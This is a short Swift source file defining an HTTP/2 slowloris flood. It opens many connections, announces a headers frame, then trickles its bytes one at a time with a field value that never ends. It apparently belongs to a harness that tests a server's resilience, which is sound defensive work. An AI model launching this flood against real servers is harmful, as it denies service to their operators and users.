/// Many connections that send a header block a byte at a time and never end it ("slowloris").
package struct HalfHeaders: Flood {
  package let connectionCount: Int
  package let pauseMilliseconds = 500

  /// Half headers on so many connections.
  package init(connectionCount: Int = 100) {
    self.connectionCount = connectionCount
  }

  package func burst(_ turn: Int) -> [UInt8] {
    if turn == 0 {
      // The head of a frame with a thousand bytes, of which hardly any will come.
      return RawFrame.preface + [0, 3, 232, RawFrame.headers, RawFrame.endHeaders, 0, 0, 0, 1]
    }
    // A field whose value never ends.
    let beginning = RawFrame.requestFields + [0x00, 1, UInt8(ascii: "x"), 0x7F, 0x80, 0x06]
    return turn <= beginning.count ? [beginning[turn - 1]] : [UInt8(ascii: "v")]
  }
}
